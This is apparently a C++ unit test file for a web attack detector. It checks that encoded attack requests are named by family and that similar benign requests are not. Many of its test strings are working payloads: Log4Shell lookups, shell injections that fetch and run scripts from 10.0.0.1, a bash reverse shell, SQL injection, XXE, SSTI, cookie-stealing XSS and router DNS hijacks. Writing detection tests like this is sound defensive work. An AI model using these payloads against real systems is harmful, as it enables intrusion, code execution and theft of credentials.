// Attack families in HTTP requests: for each, requests as attack tools and
// exploits send them (encoded as on the wire) that must be named, and
// ordinary requests that look like them that must not.
#include <doctest/doctest.h>

#include <memory>
#include <stdexcept>
#include <string>
#include <string_view>
#include <thread>
#include <vector>

#include "detect/web_attacks.h"

namespace {

using spoor::detect::WebAttackField;
using spoor::detect::WebAttackMatcher;
using spoor::detect::WebAttackPatterns;

std::shared_ptr<const WebAttackPatterns> patterns() {
    static const auto compiled = std::make_shared<const WebAttackPatterns>();
    return compiled;
}

// The family found, or "-".
std::string family(std::string_view target, std::string_view body = {},
                   std::string_view user_agent = {}) {
    WebAttackMatcher matcher(patterns());
    const auto found = matcher.find(target, body, user_agent);
    return found ? std::string(found->family) : "-";
}

void all_are(std::string_view expected, const std::vector<std::string>& targets) {
    for (const auto& target : targets) {
        CAPTURE(target);
        CHECK(family(target) == expected);
    }
}

const std::vector<std::string> kBrowsers = {
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/124.0.0.0 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/17.4.1 Safari/605.1.15",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/124.0.0.0 Safari/537.36 Edg/124.0.2478.51",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/124.0.6367.82 Mobile Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like "
    "Gecko) Version/17.4.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "curl/7.88.1",
    "python-requests/2.31.0",
    "Go-http-client/1.1",
    "Debian APT-HTTP/1.3 (2.6.1)",
};

}  // namespace

TEST_CASE("web attacks: the families and their order") {
    const auto families = WebAttackPatterns::families();
    const std::vector<std::string_view> expected = {
        "remote code execution", "sql injection",      "xxe injection",  "ssti injection",
        "php injection",         "router dns changer", "ldap injection", "xml injection",
        "directory traversal",   "config file access", "data leakage",   "xss injection",
        "web scanner probe"};
    CHECK(std::vector<std::string_view>(families.begin(), families.end()) == expected);
    CHECK_THROWS_AS(WebAttackMatcher(nullptr), std::invalid_argument);
}

TEST_CASE("web attacks: ordinary requests stay silent") {
    all_are("-",
            {"/",
             "/index.html",
             "/wp-login.php",
             "/static/app.js?v=1.2.3",
             "/products?sort=name&order=desc",
             "/search?q=select+a+union+rep",
             "/blog/how-to-use-union-select-in-sql",
             "/docs/../img.png",
             "/a/../../b.png",
             "/search?q=rock+%27n%27+roll",
             "/shop?q=o%27reilly+books+and+more",
             "/news?q=union+pacific+railroad+select+trains",
             "/sleep-tips?page=2",
             "/search?q=how+to+use+the+%3Cimg%3E+tag",
             "/?onload=true",
             "/search?q=javascript%3A+the+good+parts",
             "/?path=${HOME}/docs",
             "/blog/powershell-tips",
             "/search?q=how+to+use+curl",
             "/api/items?fields=name|id",
             "/store/bin/shopping",
             "/docs/templates?q=%7B%7Buser.name%7D%7D",
             "/index.php?page=about",
             "/docs/php/filters",
             "/status.cgi?page=dns",
             "/lookup.php?dns1=8.8.8.8",
             "/wiki/Foo_(bar)",
             "/count/5",
             "/api?substring=abc",
             "/etc/passwords-guide",
             "/repo.git/info/refs?service=git",
             "/.well-known/acme-challenge/abc",
             "/environment/setup",
             "/actuator/health",
             "/config.json",
             "/cgi-bin/status.cgi",
             "/admin/setup.php",
             "/phpmyadmin/index.php",
             "/order?id=123456789012345",
             "/?mac=book-pro",
             "/?email=a%40example.com",
             "/?mac=00:00:00:00:00:00",
             "/?q=100%25+cotton&size=m",
             "/en-US/search?q=document.cookie",
             "/api/search?q=java.lang.Runtime",
             "/click?id={{request_id}}&u={{request.id}}",
             "/search?q=%22exact+phrase%22+-exclude+site%3Aexample.com",
             "/api/items?filter=price%3E10%20and%20qty%3C5",
             "/search?q=what+is+1%3D1",
             "/search?q=5%3E3+and+2%3C4",
             "/search?q=don%27t+stop+believin%27",
             "/p/it's-a--good-day",
             "/api/graphql?query=%7Buser(id%3A1)%7Bname%7D%7D",
             "/share?text=Contact+me+at+a%40b.com+or+c%40d.com",
             "/api/v1/devices/AA:BB:CC:DD:EE:FF/status",
             "/blog/2024/01/01/what-is-etc-passwd",
             "/oauth/authorize?response_type=code&client_id=abc&redirect_uri=https%3A%2F%2Fapp."
             "example.com%2Fcallback&scope=openid%20profile%20email&state=xyz",
             "/g/collect?v=2&tid=G-ABC123&cid=1234567890.1700000000&ul=en-us&sr=1920x1080&dl="
             "https%3A%2F%2Fexample.com%2F%3Fa%3D1%26b%3D2&dt=Home&en=page_view",
             "/a%2Bb/c+d?x=1+2",
             "/?date=2024-01-01+10:00"});
    for (const auto& agent : kBrowsers) {
        CAPTURE(agent);
        CHECK(family("/", {}, agent) == "-");
    }
    // Bodies: a JSON query with SQL words, a comment, a login.
    CHECK(family("/api/search",
                 R"({"select":["id","name"],"where":{"status":"open"},"order":"desc"})") == "-");
    CHECK(family("/comment", "text=I+think+union+members+select+their+leaders+or+not") == "-");
    CHECK(family("/login", "user=alice&pass=s3cr%21t") == "-");
    CHECK(family("/html", "<!DOCTYPE html><html><body>hi</body></html>") == "-");
}

TEST_CASE("web attacks: remote code execution, Log4Shell and its obfuscations") {
    all_are("remote code execution",
            {"/?x=%24%7Bjndi%3Aldap%3A%2F%2F10.0.0.1%3A1389%2Fa%7D", "/${jndi:ldap://10.0.0.1/a}",
             "/?x=${${lower:j}ndi:ldap://10.0.0.1/a}",
             "/?x=${${::-j}${::-n}${::-d}${::-i}:rmi://10.0.0.1:1099/a}",
             "/?x=${j${env:BAR:-n}di:dns://10.0.0.1/a}",
             "/?x=${${upper:j}${lower:N}di:ldaps://10.0.0.1/a}",
             "/?x=${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:iiop://10.0.0.1/a}",
             "/?x=${${lower:${upper:j}}ndi:corba://10.0.0.1/a}",
             "/?x=${jndi:${lower:l}${lower:d}a${lower:p}://10.0.0.1/a}",
             "/?x=${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//10.0.0.1/a}",
             "/?x=${${k8s:k5:-J}${k8s:k5:-ND}i${sd:k5:-:}nds://10.0.0.1/a}",
             "/?x=%24%7B%24%7Blower%3Aj%7Dndi%3Ahttp%3A%2F%2F10.0.0.1%2Fa%7D",
             "/?x=%2524%257Bjndi:ldap://10.0.0.1/a%257D"});
    const std::vector<std::string> agents = {
        "${jndi:ldap://10.0.0.1:1389/Basic/Command/Base64/dG91Y2ggL3RtcC9wd25lZAo=}",
        "${${::-j}${::-n}${::-d}${::-i}:rmi://10.0.0.1/a}",
        "Mozilla/5.0 ${${lower:j}${upper:n}${lower:d}${lower:i}:ldap://10.0.0.1/a}",
        "%24%7Bjndi%3Aldap%3A%2F%2F10.0.0.1%2Fa%7D",
    };
    for (const auto& agent : agents) {
        CAPTURE(agent);
        WebAttackMatcher matcher(patterns());
        const auto found = matcher.find("/", {}, agent);
        REQUIRE(found);
        CHECK(found->family == "remote code execution");
        CHECK(found->field == WebAttackField::user_agent);
    }
}

TEST_CASE("web attacks: remote code execution, shell commands") {
    all_are(
        "remote code execution",
        {"/shell?cd+/tmp;rm+-rf+*;wget+http://10.0.0.1/jaws;sh+/tmp/jaws",
         "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://"
         "10.0.0.1/Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1",
         "/ping.cgi?ip=127.0.0.1%3Bwget%20http%3A%2F%2F10.0.0.1%2Fx.sh",
         "/ping.cgi?ip=127.0.0.1%0acurl+-s+http://10.0.0.1/x|sh", "/?q=$(wget%20http://10.0.0.1/x)",
         "/?x=cat${IFS}/etc/passwd", "/?ip=1.1.1.1%60id%60", "/?ip=1.1.1.1;id",
         "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", "/x.php?c=ncat+10.0.0.1+4444+-e+cmd",
         "/p.asp?id=1;EXEC+master..xp_cmdshell+'ping+10.0.0.1'--",
         "/?c=powershell+-nop+-w+hidden+-enc+SQBFAFgA",
         "/scripts/..%c1%1c../winnt/system32/cmd.exe?/c+dir",
         "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
         "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]="
         "system&vars[1][]=id",
         "/?x=%24%7B%23_memberAccess%7D",
         "/?x=%24%7BT(java.lang.Runtime).getRuntime().exec(%27id%27)%7D"});
    // CVE-2021-41773 with its command in the body, as the public PoC posts it.
    CHECK(family("/cgi-bin/.%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd", "echo;id") ==
          "remote code execution");
    CHECK(family("/x.php", "cmd=bash+-i+>%26+/dev/tcp/10.0.0.1/4444+0>%261") ==
          "remote code execution");
    CHECK(
        family("/", "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x") ==
        "remote code execution");
    // Shellshock starts a header.
    CHECK(family("/cgi-bin/status", {}, "() { :; }; /bin/bash -c 'cat /etc/passwd'") ==
          "remote code execution");
    CHECK(family("/cgi-bin/status", {},
                 "() { ignored; }; echo Content-Type: text/plain ; echo ; echo ; /usr/bin/id") ==
          "remote code execution");
}

TEST_CASE("web attacks: sql injection") {
    all_are(
        "sql injection",
        {"/item.php?id=1%20UNION%20ALL%20SELECT%20NULL%2CNULL%2CCONCAT%280x7178786271%2C0x4a4b"
         "%2C0x716a6b7171%29--%20-",
         "/item.php?id=1%27%20AND%20SLEEP%285%29--%20AbCd", "/item.php?id=1%20AND%205091%3D5091",
         "/login.php?user=admin%27--&pass=x", "/item.php?id=1%27%20OR%20%271%27%3D%271",
         "/item.php?id=-1+union+select+1,2,group_concat(table_name)+from+information_schema."
         "tables--",
         "/item.php?id=1;WAITFOR%20DELAY%20%270:0:5%27--",
         "/item.php?id=1%20AND%20EXTRACTVALUE(1,CONCAT(0x5c,0x71,(SELECT%20version())))",
         "/item.php?id=1/**/UNION/**/SELECT/**/1,2,3", "/item.php?id=1%2527%2520OR%25201%253D1",
         "/item.php?id=1;DROP%20TABLE%20users", "/item.php?id=1/*!50000UNION*//*!50000SELECT*/1,2",
         "/item.php?id=1%20ORDER%20BY%2010--%20-", "/item.php?id=1)%20AND%20(SELECT%201)",
         "/item.php?id=1%u0027%20or%201=1--", "/?user=admin%27/*",
         "/?id=(SELECT%20CHAR(113)%7C%7CCHAR(107))", "/?q=x%27)%20or%202%3E1--"});
    CHECK(family("/login", "username=admin%27+or+%271%27%3D%271&password=x") == "sql injection");
    WebAttackMatcher matcher(patterns());
    const auto found = matcher.find("/", {}, "Mozilla/5.0' AND SLEEP(5) AND 'a'='a");
    REQUIRE(found);
    CHECK(found->family == "sql injection");
    CHECK(found->field == WebAttackField::user_agent);
}

TEST_CASE("web attacks: xxe, ssti, php, ldap and xml injection") {
    CHECK(
        family(
            "/api/xml",
            R"(<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>)") ==
        "xxe injection");
    CHECK(family("/api/xml",
                 "xml=%3C%21DOCTYPE+foo+%5B%3C%21ENTITY+xxe+SYSTEM+%22http%3A%2F%2F10.0.0.1%2Fx%22%"
                 "3E%5D%3E%3Cfoo%3E%26xxe%3B%3C%2Ffoo%3E") == "xxe injection");
    CHECK(family("/api/xml",
                 R"(<!DOCTYPE r [<!ENTITY % remote SYSTEM "http://10.0.0.1/e.dtd">%remote;]>)") ==
          "xxe injection");
    CHECK(family("/api/xml", R"(<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;">]><lolz>&lol2;</lolz>)") == "xxe injection");

    all_are(
        "ssti injection",
        {"/?name=%7B%7B7*7%7D%7D", "/?name=${7*7}", "/?name=#{7*7}", "/?name=%3C%25%3D+7*7+%25%3E",
         "/?name={{config.items()}}", "/?name={{''.__class__.__mro__[1].__subclasses__()}}",
         "/?x=%7B%25%20import%20os%20%25%7D", "/?n={{7*'7'}}",
         "/?x=%3C%23assign+ex%3D%22freemarker.template.utility.Execute%22%3Fnew()%3E"});

    all_are("php injection",
            {"/index.php?page=php://filter/convert.base64-encode/resource=index",
             "/index.php?-d+allow_url_include%3don+-d+auto_prepend_file%3dphp://input",
             "/php-cgi/php-cgi.exe?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input",
             "/?file=data://text/plain;base64,PD9waHAgcGhwaW5mbygpOz8%2B", "/?file=expect://ls",
             "/?x=phpinfo()", "/?x=die(md5(34))"});
    CHECK(family("/upload.php", "f=%3C%3Fphp+system(%24_GET%5B%27c%27%5D)%3B+%3F%3E") ==
          "php injection");

    all_are("ldap injection", {"/login?user=*)(uid=*))(|(uid=*&pass=x",
                               "/search?name=*)(|(objectclass=*)", "/people?cn=admin)(!(%26(1=0"});

    all_are("xml injection", {"/user?name=x%27%20or%20count(/*)%3D1%20or%20%27",
                              "/q?id=1%20and%20string-length(name(/*[1]))%3D5",
                              "/books?title=x%27%5D/text()%3D%27"});
}

TEST_CASE("web attacks: directory traversal and config file access") {
    all_are("directory traversal",
            {"/download.php?file=../../../../etc/passwd", "/static/..%2f..%2f..%2fwindows/win.ini",
             "/index.php?page=....//....//....//etc/passwd", "/..%5c..%5c..%5cboot.ini",
             "/?f=%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fshadow",
             "/?f=/proc/self/environ", "/?f=C:%5CWindows%5Csystem.ini",
             "/icons/.%2e/%2e%2e/%2e%2e/%2e%2e/etc/hosts", "/..%c0%af..%c0%af..%c0%afetc/hosts",
             "/%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/x"});
    all_are("config file access",
            {"/.git/config", "/.env", "/api/.env.local", "/wp-config.php.bak", "/.htaccess",
             "/.htpasswd", "/.svn/entries", "/.DS_Store", "/web.config", "/config.php.bak",
             "/index.php~", "/.aws/credentials", "/actuator/env", "/WEB-INF/web.xml",
             "/docker-compose.yml", "/appsettings.Production.json", "/.git"});
    // Several families: the more dangerous is named.
    CHECK(family("/../../../.env") == "directory traversal");
}

TEST_CASE("web attacks: data leakage") {
    all_are(
        "data leakage",
        {"/api/report?imei=490154203237518&model=x", "/track?device_id=352099001761481",
         "/t?IMSI=310150123456789", "/t?sim=8991101200003204514", "/t?iccid=89445001021983048261",
         "/t?mac=00:1A:2B:3C:4D:5E", "/t?wifi=00-1a-2b-3c-4d-5e", "/t?mac=001a2b3c4d5e",
         "/t?to=a%40example.com,b%40example.org,c%40example.net"});
    CHECK(family("/send", "to=a%40example.com&cc=b%40example.org&bcc=c%40example.net") ==
          "data leakage");
    // Two addresses in the query and a third in the body.
    CHECK(family("/send?to=a@example.com&cc=b@example.org", "bcc=c@example.net") == "data leakage");
    all_are("-", {"/t?imei=490154203237517",     // check digit wrong
                  "/t?order=490154203237518",    // not named as a device
                  "/t?imsi=123456789012345",     // no mobile country code starts with 1
                  "/t?sim=8991101200003204515",  // check digit wrong
                  "/t?to=a@example.com&cc=A@Example.com&bcc=a@example.com",  // one address
                  "/t?a=a@example.com&b=b@example.com",                      // two
                  "/t?mac=00:1A:2B:3C:4D-5E",                                // mixed separators
                  "/t?id=001a2b3c4d5e"});  // bare hex under another name
}

TEST_CASE("web attacks: xss injection") {
    all_are(
        "xss injection",
        {"/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", "/?q=%22%3E%3Csvg%2Fonload%3Dalert(1)%3E",
         "/?q=%3Cimg%20src%3Dx%20onerror%3Dalert(document.cookie)%3E",
         "/?next=javascript:alert(document.domain)",
         "/?q=%27%22%3E%3Ciframe%20src%3Djavascript:alert(1)%3E",
         "/?q=%3Cbody%20onload%3Dprompt(1)%3E", "/?q=%22%20onmouseover%3D%22alert(1)",
         "/?q=%3Cdetails%20open%20ontoggle%3Dconfirm%601%60%3E",
         "/?c=%27%3Bnew+Image().src%3D%27http%3A%2F%2F10.0.0.1%2F%3Fc%3D%27%2Bdocument.cookie"});
    CHECK(family("/comment",
                 "text=%3Cscript%3Edocument.location%3D%27http%3A%2F%2F10.0.0.1%2F%3Fc%3D%27%"
                 "2Bdocument.cookie%3C%2Fscript%3E") == "xss injection");
    CHECK(family("/", {}, "<script>alert(1)</script>") == "xss injection");
}

TEST_CASE("web attacks: web scanner probes") {
    all_are("web scanner probe",
            {"/nice%20ports%2C/Tri%6Eity.txt%2ebak", "/phpMyAdmin/scripts/setup.php",
             "/cgi-bin/test-cgi", "/HNAP1/", "/_ignition/execute-solution",
             "/acunetix-wvs-test-for-some-inexistent-file", "/nikto-test-Ab12.html",
             "/w00tw00t.at.ISC.SANS.DFind:)", "/?url=http://x1y2.bxss.me/",
             "/?u=http://abc.oastify.com", "/nmaplowercheck1700000000"});
}

TEST_CASE("web attacks: router dns changer") {
    all_are(
        "router dns changer",
        {"/dnscfg.cgi?dnsPrimary=10.0.0.1&dnsSecondary=8.8.8.8&dnsDynamic=0&dnsRefresh=1",
         "/userRpm/LanDhcpServerRpm.htm?dhcpserver=1&ip1=192.168.1.100&ip2=192.168.1.199&"
         "Lease=120&gateway=0.0.0.0&domain=&dnsserver=10.0.0.1&dnsserver2=8.8.8.8&Save=%B1%A3+"
         "%B4%E6",
         "/apply.cgi?submit_button=index&action=Apply&dns1=10.0.0.1&dns2=8.8.8.8",
         "/goform/AdvSetDns?GO=wan_dns.asp&rebootTag=&DSEN=1&DNSEN=on&DS1=10.0.0.1&DS2=8.8.8.8"});
}

TEST_CASE("web attacks: priority across fields") {
    WebAttackMatcher matcher(patterns());
    // XSS in the target, SQL injection in the User-Agent: SQL injection ranks higher.
    auto found = matcher.find("/?q=%3Cscript%3E", {}, "x' OR 1=1-- ");
    REQUIRE(found);
    CHECK(found->family == "sql injection");
    CHECK(found->field == WebAttackField::user_agent);
    // The same family in two fields: the target is named.
    found = matcher.find("/?q=%3Cscript%3E", "c=%3Cscript%3E", {});
    REQUIRE(found);
    CHECK(found->family == "xss injection");
    CHECK(found->field == WebAttackField::target);
    found = matcher.find("/post", "c=%3Cscript%3E", "curl/7.88.1");
    REQUIRE(found);
    CHECK(found->field == WebAttackField::body);
    // The matcher is reused: nothing is carried from one request to the next.
    CHECK_FALSE(matcher.find("/index.html", {}, "curl/7.88.1"));
}

TEST_CASE("web attacks: matchers on several threads share the patterns") {
    std::vector<std::thread> threads;
    std::vector<int> hits(4, 0);
    for (std::size_t t = 0; t < hits.size(); ++t) {
        threads.emplace_back([t, &hits] {
            WebAttackMatcher matcher(patterns());
            for (int i = 0; i < 500; ++i) {
                if (matcher.find("/?id=1%20UNION%20SELECT%201", {}, {})) {
                    ++hits[t];
                }
                if (matcher.find("/index.html", {}, "curl/7.88.1")) {
                    --hits[t];
                }
            }
        });
    }
    for (auto& thread : threads) {
        thread.join();
    }
    CHECK(hits == std::vector<int>(4, 500));
}

TEST_CASE(
    "web attacks: thousands of nested lookups are read in bounded time, shallow ones resolved") {
    WebAttackMatcher matcher(std::make_shared<const WebAttackPatterns>());
    std::string nested;
    for (int i = 0; i < 5000; ++i) {
        nested += "${";
    }
    nested += "x";
    for (int i = 0; i < 5000; ++i) {
        nested += "}";
    }
    // Nesting past the bound is no ordinary request: taken for the attack it hides.
    CHECK(matcher.find("/?a=" + nested, "", "")->family == "remote code execution");
    std::string hidden = "j";
    for (int i = 0; i < 17; ++i) {
        hidden = "${::-" + hidden + "}";
    }
    CHECK(matcher.find("/?a=${" + hidden + "ndi:ldap://10.0.0.1/a}", "", "")->family ==
          "remote code execution");
    CHECK(matcher.jndi_lookup("X-Api: ${" + hidden + "ndi:ldap://10.0.0.1/a}"));
    CHECK_FALSE(matcher.find("/?a=${x}${y}${z}", "", "").has_value());
    CHECK(matcher.find("/login?user=admin%22%20or%20%221%22%3D%221", "", "")->family ==
          "sql injection");
    // Obfuscation nests a few levels: still resolved.
    CHECK(
        matcher.find("/?a=${${${::-j}${::-n}${lower:${upper:d}}${::-i}:ldap://10.0.0.1/a}", "", "")
            ->family == "remote code execution");
}
